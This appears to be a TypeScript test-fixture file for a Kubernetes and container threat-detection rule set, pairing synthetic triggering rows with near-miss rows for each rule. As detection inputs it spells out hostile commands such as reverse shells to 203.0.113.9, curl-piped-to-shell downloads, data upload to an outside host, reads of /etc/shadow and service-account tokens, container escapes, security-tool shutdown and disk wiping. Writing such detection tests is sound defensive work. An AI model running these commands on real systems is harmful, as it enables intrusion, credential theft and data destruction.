/** For each rule what it is to find, and what looks like it and is not. Rows of one case follow each other by a tenth of a second, cases by an hour. */

/** An activity by its attributes; `session` numbers a session, whose first row opens it. */
export type Row = Readonly<Record<string, string | number | boolean | readonly string[]>>;
export interface RuleCase {
  readonly hits: readonly Row[];
  readonly misses: readonly Row[];
}

const POD = {
  namespace: 'shop',
  pod: 'web-1',
  container: 'web',
  containerid: 'aaaaaaaaaaaa',
  image: 'web:1',
  node: 'node-1',
  workload: 'web',
};
const api = (verb: string, resource: string, more: Row = {}): Row => ({
  kind: 'api',
  verb,
  resource,
  result: 'ok',
  user: 'ann',
  ...more,
});
const exec = (more: Row = {}): Row => ({
  ...api('get', 'pods', POD),
  kind: 'exec',
  subresource: 'exec',
  label: 'kube exec',
  ...more,
});
const run = (...command: string[]): Row => exec({ command });
const base = (path: string): string => path.slice(path.lastIndexOf('/') + 1);
const cmd = (cmdline: string, more: Row = {}): Row => ({
  kind: 'cmd',
  comm: base(cmdline.split(' ')[0] ?? ''),
  cmdline,
  ...POD,
  ...more,
});
/** On a node, in no container. */
const host = (cmdline: string, more: Row = {}): Row => ({
  kind: 'cmd',
  comm: base(cmdline.split(' ')[0] ?? ''),
  cmdline,
  node: 'node-1',
  ...more,
});
const net = (server: string, more: Row = {}): Row => ({
  kind: 'net',
  direction: 'out',
  server,
  serverport: 443,
  ...POD,
  ...more,
});
const file = (mode: string, path: string, more: Row = {}): Row => ({
  kind: 'file',
  mode,
  path,
  directory: path.slice(0, path.lastIndexOf('/') + 1),
  file: base(path),
  comm: 'cat',
  ...POD,
  ...more,
});
const times = (count: number, row: (i: number) => Row): readonly Row[] => Array.from({ length: count }, (_, i) => row(i));
const of = (hits: Row | readonly Row[], misses: Row | readonly Row[]): RuleCase => ({
  hits: [hits].flat() as Row[],
  misses: [misses].flat() as Row[],
});

const OUTSIDE = '203.0.113.9';
const CI = 'system:serviceaccount:build:ci';
const CONTROLLER = 'system:serviceaccount:kube-system:namespace-controller';
const kubectl = { useragent: 'kubectl/v1.34.0' };

export const CASES: Readonly<Record<string, RuleCase>> = {
  // Early, since the last of all compare with them.
  'unknown-address': of(net(OUTSIDE), [net('10.1.2.3'), net(OUTSIDE, { direction: 'in' })]),
  'program-from-temporary-folder': of([cmd('k', { exe: '/tmp/k' }), cmd('nohup /tmp/k --loop')], cmd('k', { exe: '/usr/bin/k' })),

  'kube-exec-shell': of(
    [run('bash'), run('/bin/sh', '-c', 'ls'), exec({ verb: 'create', command: ['sh'] })],
    [run('ls'), run('/app/push')],
  ),
  'kube-exec-refused': of(exec({ result: 'refused' }), exec()),
  'kube-exec-refused-then-allowed': of(
    [exec({ user: 'rex', result: 'refused' }), exec({ user: 'rex' })],
    [exec({ user: 'rob', result: 'refused' }), exec({ user: 'roy' })],
  ),
  'kube-exec-system-namespace': of(exec({ namespace: 'kube-system' }), exec()),
  'kube-exec-service-account': of(exec({ user: CI }), exec({ user: CI, result: 'refused' })),
  'kube-exec-many-pods': of(
    times(6, (i) => exec({ user: 'moe', pod: `web-${i}` })),
    [...times(6, () => exec({ user: 'max' })), ...times(5, (i) => exec({ user: 'mia', pod: `web-${i}` }))],
  ),
  'kube-exec-long': of(exec({ seconds: 3_700 }), exec({ seconds: 3_500 })),
  'kube-exec-reads-secrets': of([run('cat', '/etc/shadow'), run('cat', '/vault/secrets/token')], run('cat', '/etc/hosts')),
  'kube-exec-metadata': of(run('curl', 'http://169.254.169.254/latest'), run('curl', 'http://10.0.0.1/')),
  'kube-exec-download': of(run('sh', '-c', 'wget https://files.example/x'), run('curl', '--version')),
  'kube-exec-reverse-shell': of(run('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), run('nc', '-z', 'db', '5432')),
  'kube-attach': of(exec({ subresource: 'attach' }), exec()),
  'kube-port-forward': of(exec({ subresource: 'portforward' }), exec()),
  'kube-cp': of(exec({ label: 'kube cp' }), exec()),
  'ephemeral-container': of(
    exec({ verb: 'patch', subresource: 'ephemeralcontainers' }),
    exec({ verb: 'get', subresource: 'ephemeralcontainers' }),
  ),
  'node-proxy-exec': of(exec({ resource: 'nodes', subresource: 'proxy' }), exec()),
  'node-proxy': of(
    api('get', 'nodes', { subresource: 'proxy', requesturi: '/api/v1/nodes/n/proxy/pods' }),
    api('get', 'nodes', { subresource: 'proxy', requesturi: '/api/v1/nodes/n/proxy/metrics' }),
  ),
  'workload-proxy': of(api('get', 'services', { subresource: 'proxy' }), api('get', 'services')),
  'cluster-admin-used': of(
    api('list', 'pods', {
      decisionreason: 'RBAC: allowed by ClusterRoleBinding "x" of ClusterRole "cluster-admin" to User "ann"',
    }),
    api('list', 'pods', { decisionreason: 'RBAC: allowed by ClusterRoleBinding "x" of ClusterRole "view" to User "ann"' }),
  ),
  'system-masters-used': of(api('list', 'pods', { groups: ['system:masters'] }), api('list', 'pods', { groups: ['dev'] })),
  'role-binding-changed': of(api('create', 'rolebindings'), [
    api('get', 'rolebindings'),
    api('create', 'rolebindings', { result: 'refused' }),
  ]),
  'cluster-admin-binding': of(
    api('create', 'clusterrolebindings', { name: 'ann-cluster-admin' }),
    api('create', 'clusterrolebindings', { name: 'viewers' }),
  ),
  'role-grants-exec': of(
    api('create', 'roles', { action: 'CreateRoles_WithPodExec' }),
    api('create', 'roles', { action: 'CreateRoles' }),
  ),
  'role-changed': of(api('patch', 'clusterroles'), api('list', 'clusterroles')),
  'system-role-changed': of(api('update', 'clusterroles', { name: 'system:node' }), [
    api('update', 'clusterroles', { name: 'system:node', user: 'system:apiserver' }),
    api('update', 'clusterroles', { name: 'viewer' }),
  ]),
  'rbac-by-service-account': of(api('create', 'rolebindings', { user: CI }), api('update', 'clusterroles', { user: CONTROLLER })),
  'rights-then-workload': of(
    [api('create', 'rolebindings', { user: 'ria' }), api('create', 'deployments', { user: 'ria' })],
    [api('create', 'deployments', { user: 'ron' }), api('create', 'rolebindings', { user: 'ron' })],
  ),
  'service-account-in-system-namespace': of(
    api('create', 'serviceaccounts', { namespace: 'kube-system' }),
    api('create', 'serviceaccounts', { namespace: 'shop' }),
  ),
  'token-requested': of(
    api('create', 'serviceaccounts', { subresource: 'token' }),
    api('create', 'serviceaccounts', { subresource: 'token', user: 'system:node:node-1' }),
  ),
  'certificate-requested': of(
    api('create', 'certificatesigningrequests'),
    api('create', 'certificatesigningrequests', { user: 'system:node:node-1' }),
  ),
  'certificate-approved': of(
    api('update', 'certificatesigningrequests', { subresource: 'approval' }),
    api('get', 'certificatesigningrequests'),
  ),
  'bootstrap-token-created': of(
    api('create', 'secrets', { name: 'bootstrap-token-abcdef' }),
    api('create', 'secrets', { name: 'db' }),
  ),
  impersonation: of(api('list', 'pods', { impersonated: 'bob' }), api('list', 'pods')),
  'impersonation-of-masters': of(
    api('list', 'pods', { impersonated: 'bob', impersonatedgroups: ['system:masters'] }),
    api('list', 'pods', { impersonated: 'bob' }),
  ),
  'anonymous-allowed': of(api('list', 'pods', { user: 'system:anonymous', requesturi: '/api/v1/pods' }), [
    api('get', 'pods', { user: 'system:anonymous', requesturi: '/healthz' }),
    api('list', 'pods', { user: 'system:anonymous', result: 'refused' }),
  ]),
  'anonymous-write': of(
    api('create', 'pods', { user: 'system:anonymous' }),
    api('create', 'selfsubjectaccessreviews', { user: 'system:anonymous' }),
  ),
  'aws-auth-changed': of(api('patch', 'configmaps', { name: 'aws-auth' }), api('get', 'configmaps', { name: 'aws-auth' })),
  'token-from-unknown-address': of(
    api('list', 'pods', { user: CI, sourceaddresses: [OUTSIDE] }),
    api('list', 'pods', { user: CI, sourceaddresses: ['10.1.2.3'] }),
  ),
  'user-from-many-addresses': of(
    times(4, (i) => exec({ user: 'uma', sourceaddresses: [`203.0.113.${i}`] })),
    times(4, () => exec({ user: 'udo', sourceaddresses: [OUTSIDE] })),
  ),
  'node-credential-with-kubectl': of(
    api('list', 'pods', { user: 'system:node:node-1', ...kubectl }),
    api('list', 'pods', { user: 'system:node:node-1', useragent: 'kubelet/v1.34.0' }),
  ),
  'offensive-client': of(api('list', 'pods', { useragent: 'Kube-Hunter' }), api('list', 'pods', kubectl)),
  'script-client': of(
    api('list', 'pods', { useragent: 'python-requests/2.32' }),
    api('list', 'pods', { useragent: 'Go-http-client/2.0', user: CI }),
  ),
  'selfsubject-by-service-account': of(
    api('create', 'selfsubjectrulesreviews', { user: CI }),
    api('create', 'selfsubjectaccessreviews'),
  ),
  'selfsubject-rules': of(api('create', 'selfsubjectrulesreviews'), api('create', 'selfsubjectaccessreviews')),
  'secrets-listed-everywhere': of(api('list', 'secrets'), [
    api('list', 'secrets', { namespace: 'shop' }),
    api('list', 'secrets', { user: CONTROLLER }),
  ]),
  'secrets-read-in-bulk': of(
    times(10, (i) => api('get', 'secrets', { user: 'sal', name: `s-${i}` })),
    [
      ...times(10, () => api('get', 'secrets', { user: 'sue', name: 's' })),
      ...times(9, (i) => api('get', 'secrets', { user: 'sam', name: `s-${i}` })),
    ],
  ),
  'secrets-refused': of(api('list', 'secrets', { result: 'refused' }), api('list', 'configmaps', { result: 'refused' })),
  'secret-read-by-person': of(api('get', 'secrets', { name: 'db' }), [
    api('get', 'secrets', { name: 'sh.helm.release.v1.x' }),
    api('get', 'secrets', { user: CI }),
  ]),
  'secret-changed': of(api('update', 'secrets', { name: 'db' }), api('get', 'secrets', { name: 'db' })),
  'secret-by-script': of(api('get', 'secrets', { user: CI, useragent: 'curl/8.9' }), api('get', 'secrets', kubectl)),
  'cluster-dns-changed': of(
    api('update', 'configmaps', { namespace: 'kube-system', name: 'coredns' }),
    api('update', 'configmaps', { namespace: 'shop', name: 'coredns' }),
  ),
  'refused-in-bulk': of(
    times(20, () => api('get', 'pods', { user: 'bea', result: 'refused' })),
    times(19, () => api('get', 'pods', { user: 'ben', result: 'refused' })),
  ),
  'refused-in-many-places': of(
    times(5, (i) => api('list', `things${i}`, { user: 'pam', result: 'refused' })),
    times(5, () => api('list', 'things', { user: 'pat', result: 'refused' })),
  ),
  'listed-in-many-places': of(
    times(15, (i) => api('list', `things${i}`, { user: 'lea' })),
    times(14, (i) => api('list', `things${i}`, { user: 'leo' })),
  ),
  'unauthenticated-in-bulk': of(
    times(20, () => ({ kind: 'api', code: 401, result: 'refused', sourceaddresses: [OUTSIDE] })),
    times(20, (i) => ({ kind: 'api', code: 401, result: 'refused', sourceaddresses: [`198.51.100.${i}`] })),
  ),
  'write-refused': of(api('create', 'pods', { result: 'refused' }), api('get', 'pods', { result: 'refused' })),
  'events-deleted': of(api('deletecollection', 'events'), api('deletecollection', 'events', { user: CONTROLLER })),
  'admission-webhook-changed': of(
    api('delete', 'validatingwebhookconfigurations'),
    api('patch', 'mutatingwebhookconfigurations', { user: CI }),
  ),
  'network-policy-weakened': of(api('delete', 'networkpolicies'), api('create', 'networkpolicies')),
  'aggregated-api-changed': of(api('create', 'apiservices'), api('get', 'apiservices')),
  'control-plane-lease-taken': of(
    api('update', 'leases', { namespace: 'kube-system', name: 'kube-scheduler' }),
    api('update', 'leases', { namespace: 'kube-system', name: 'kube-scheduler', user: 'system:kube-scheduler' }),
  ),
  'namespace-deleted': of(api('delete', 'namespaces'), api('delete', 'namespaces', { user: CONTROLLER })),
  'workload-deleted': of(api('delete', 'deployments'), api('patch', 'deployments')),
  'storage-deleted': of(api('delete', 'persistentvolumeclaims'), api('create', 'persistentvolumeclaims')),
  'deleted-in-bulk': of(
    times(20, (i) => api('delete', 'pods', { user: 'del', name: `p-${i}` })),
    times(19, (i) => api('delete', 'pods', { user: 'dan', name: `p-${i}` })),
  ),
  'pod-created-by-person': of(api('create', 'pods', { namespace: 'shop' }), [
    api('create', 'pods', { subresource: 'eviction' }),
    api('create', 'pods', { user: CONTROLLER }),
  ]),
  'workload-in-system-namespace': of(
    api('create', 'daemonsets', { namespace: 'kube-system' }),
    api('create', 'daemonsets', { namespace: 'shop' }),
  ),
  'daemonset-created': of(api('create', 'daemonsets'), api('create', 'deployments')),
  'cronjob-written': of(api('patch', 'cronjobs'), api('get', 'cronjobs')),
  'workload-changed-by-hand': of(api('patch', 'deployments', kubectl), api('patch', 'deployments', { ...kubectl, user: CI })),
  'pod-bound-by-hand': of(
    api('create', 'pods', { subresource: 'binding' }),
    api('create', 'pods', { subresource: 'binding', user: 'system:kube-scheduler' }),
  ),
  'node-deleted': of(api('delete', 'nodes'), api('patch', 'nodes')),

  'terminal-shell': of(cmd('bash', { tty: 34816 }), [
    cmd('bash', { tty: 0 }),
    cmd('bash', { tty: 34816, session: 1 }),
    host('bash', { tty: 34816 }),
  ]),
  'reverse-shell': of(
    [cmd('nc 203.0.113.9 4444 -e /bin/sh'), cmd("python3 -c 'import pty; pty.spawn(0)'")],
    cmd('nc -z db 5432'),
  ),
  'download-to-shell': of(cmd('sh -c "curl -s http://203.0.113.9/i | sh"'), cmd('sh -c "curl -s http://203.0.113.9/i > i"')),
  download: of(
    [cmd('curl -o /tmp/x https://203.0.113.9/x'), cmd('wget http://files.example/x')],
    [
      cmd('curl http://10.1.2.3/metrics'),
      cmd('curl http://cart:8080/'),
      cmd('curl http://cart.shop.svc/'),
      host('curl https://files.example/'),
    ],
  ),
  upload: of(cmd('curl -T /data/all.csv http://203.0.113.9/'), cmd('curl -s http://203.0.113.9/')),
  'package-manager': of(
    [cmd('apk add nmap'), cmd('apt-get install -y gdb'), cmd('pip install requests')],
    [cmd('apk info'), host('apt-get install -y gdb')],
  ),
  'network-tool': of(cmd('nmap -sS 10.0.0.0/8'), host('nmap -sS 10.0.0.0/8')),
  'packet-capture': of(cmd('tcpdump -ni eth0 -w /tmp/x'), cmd('tcpdump -nr /tmp/x')),
  'load-generator': of(cmd('ab -n 200 -c 2 http://10.96.12.40/'), cmd('ab -V')),
  miner: of([cmd('xmrig'), cmd('/tmp/k -o stratum+tcp://pool.example:3333')], cmd('nginx')),
  'miner-port': of(net(OUTSIDE, { serverport: 3333 }), [net('10.1.2.3', { serverport: 3333 }), net(OUTSIDE)]),
  'history-removed': of(
    [cmd('shred -u /root/.bash_history'), cmd("bash -c 'history -c'"), file('delete', '/root/.bash_history')],
    [cmd('cat /root/.bash_history'), file('write', '/root/.bash_history')],
  ),
  'logs-removed': of(cmd('rm -f /var/log/app.log'), cmd('ls /var/log')),
  'secure-delete': of(cmd('shred -u /tmp/x'), cmd('rm /tmp/x')),
  'secret-file-command': of(cmd('cat /var/run/secrets/kubernetes.io/serviceaccount/token'), [
    cmd('cat /etc/hosts'),
    host('kube-apiserver --client-ca-file=/etc/kubernetes/pki/ca.crt'),
  ]),
  'secret-file-in-session': of(file('read', '/root/.ssh/id_rsa', { session: 2 }), [
    file('read', '/root/.ssh/id_rsa'),
    file('read', '/etc/shadow', { comm: 'sshd', session: 3 }),
  ]),
  'environment-read': of([cmd('cat /proc/1/environ'), file('read', '/proc/7/environ')], cmd('cat /proc/1/status')),
  'metadata-command': of(cmd('curl http://169.254.169.254/latest/meta-data'), cmd('curl http://10.1.2.3/latest')),
  'metadata-connection': of(net('169.254.169.254', { session: 4 }), net('169.254.169.254')),
  'session-to-unknown-address': of(net(OUTSIDE, { session: 5 }), net('10.1.2.3', { session: 6 })),
  'port-sweep': of(
    times(30, (i) => net('10.9.9.9', { serverport: 1000 + i })),
    times(30, () => net('10.9.9.8')),
  ),
  'address-sweep': of(
    times(30, (i) => net(`10.7.0.${i}`, { session: 7 })),
    times(29, (i) => net(`10.8.0.${i}`, { session: 8 })),
  ),
  'container-client': of([cmd('docker ps'), cmd('curl --unix-socket /var/run/docker.sock http://x/')], host('docker ps')),
  'kube-client-in-container': of(cmd('kubectl get pods'), host('kubectl get pods')),
  'kube-api-by-hand': of(cmd('curl -k https://kubernetes.default/api'), cmd('curl http://cart:8080/api')),
  'namespace-entered': of(host('nsenter -t 7 -n ip a'), host('ip a')),
  'escape-to-node': of(
    [cmd('chroot /host bash'), file('write', '/sys/fs/cgroup/x/release_agent')],
    [host('chroot /host bash'), cmd('ls /host')],
  ),
  'mount-in-container': of(cmd('mount /dev/sda1 /mnt'), [host('mount /dev/sda1 /mnt'), cmd('mount')]),
  'unshare-in-container': of(cmd('unshare -Urm'), host('unshare -Urm')),
  'kernel-module': of(cmd('insmod /tmp/x.ko'), host('modprobe ip_vs')),
  'debugger-in-container': of(cmd('gdb -p 1'), host('gdb -p 1')),
  'program-from-memory': of(cmd('x', { exe: '/dev/shm/x' }), cmd('runc init', { exe: 'memfd:runc_cloned' })),
  'program-directory-written': of(
    [file('write', '/usr/bin/ab'), file('create', '/usr/local/bin/x')],
    [file('read', '/usr/bin/ab'), file('write', '/usr/share/x')],
  ),
  'schedule-written': of(file('create', '/etc/cron.d/x'), file('open', '/etc/cron.d/x')),
  'account-file-written': of(file('write', '/etc/passwd'), file('read', '/etc/passwd')),
  'account-command': of(cmd('useradd eve'), cmd('id eve')),
  'authorized-keys': of(
    [file('write', '/root/.ssh/authorized_keys'), cmd('sh -c "echo k >> /root/.ssh/authorized_keys"')],
    file('read', '/root/.ssh/authorized_keys'),
  ),
  'preloaded-library': of(
    [file('write', '/etc/ld.so.preload'), cmd('env LD_PRELOAD=/tmp/x.so ls')],
    file('read', '/etc/ld.so.preload'),
  ),
  setuid: of([cmd('chmod u+s /tmp/sh'), cmd('chmod 4755 /tmp/sh')], cmd('chmod 755 /app/x')),
  'made-executable': of(cmd('chmod +x /tmp/k'), cmd('chmod +x /app/run')),
  'decoded-payload': of(cmd('base64 -d'), cmd('base64 /etc/hosts')),
  'database-shell': of(cmd('sh -c id', { parent: 'mysqld' }), cmd('sh -c id', { parent: 'runc' })),
  'web-server-shell': of(cmd('sh -c id', { parent: 'nginx' }), cmd('sh -c id', { parent: 'runc' })),
  'ssh-client-in-container': of(cmd('ssh root@10.0.0.1'), host('ssh root@10.0.0.1')),
  'ssh-server-in-container': of(cmd('sshd -D'), host('sshd -D')),
  'node-login': of(host('bash', { parent: 'sshd' }), [host('bash', { parent: 'systemd' }), cmd('bash', { parent: 'sshd' })]),
  'engine-exec-on-node': of(host('crictl exec -it 0a1b sh'), host('crictl ps')),
  'tunnel-tool': of(cmd('chisel client 203.0.113.9:80 R:socks'), cmd('curl http://cart/')),
  'offensive-tool': of(cmd('peirates'), cmd('nginx')),
  'mass-removal': of([cmd('rm -rf /data'), cmd('dd if=/dev/zero of=/dev/sda')], [cmd('rm -rf /tmp/build'), cmd('rm /data/x')]),
  'defence-stopped': of(
    [host('systemctl stop falco'), host('auditctl -e 0'), host('iptables -F')],
    [host('systemctl status falco'), host('iptables -L')],
  ),
  'survey-in-session': of(
    times(5, (i) => cmd(['id', 'whoami', 'uname', 'ps', 'mount'][i] as string, { session: 9 })),
    times(5, () => cmd('ps', { session: 10 })),
  ),
  'dns-survey': of(cmd('dig axfr cluster.local'), cmd('nslookup cart.shop.svc')),
  'audit-id-reused': of(
    [
      ...['ann', 'bob'].map((user) => api('get', 'pods', { auditid: 'another user', user })),
      ...['list', 'delete'].map((verb) => api(verb, 'pods', { auditid: 'another verb' })),
      ...times(2, (i) => api('get', 'pods', { auditid: 'another path', requesturi: `/api/v1/pods/${i}` })),
      ...times(2, () => api('get', 'pods', { auditid: 'one stage twice', flags: ['reused audit id'] })),
    ],
    [
      ...times(2, () => api('get', 'pods', { auditid: 'two servers', requesturi: '/apis/metrics.k8s.io/v1beta1/pods' })),
      api('get', 'pods', { auditid: 'lost its path on the way', requesturi: '/api/v1/pods' }),
      api('get', 'pods', { auditid: 'lost its path on the way' }),
      ...times(2, (i) => api('get', 'pods', { auditid: `its own ${i}`, user: `user-${i}` })),
    ],
  ),
  'record-with-double-key': of(api('get', 'pods', { flags: ['duplicate key'] }), api('get', 'pods')),
  'shell-without-a-call': of(cmd('sh', { session: 11, unclaimed: true }), cmd('sh', { session: 12 })),
  'call-without-a-process': of(exec({ session: 13, unlinked: true }), [
    exec({ session: 14 }),
    exec({ session: 15, unlinked: true, result: 'refused' }),
  ]),

  // In the later half of all these; what they are not found in was there in the earlier one.
  'new-exec-user': of(exec({ user: 'zoe' }), exec()),
  'new-service-account-request': of(api('list', 'nodes', { user: CI }), api('list', 'pods', { user: CI })),
  'new-program': of(cmd('y', { exe: '/usr/bin/y' }), cmd('k', { exe: '/usr/bin/k' })),
  'new-address': of(net('203.0.113.77'), net(OUTSIDE)),
};
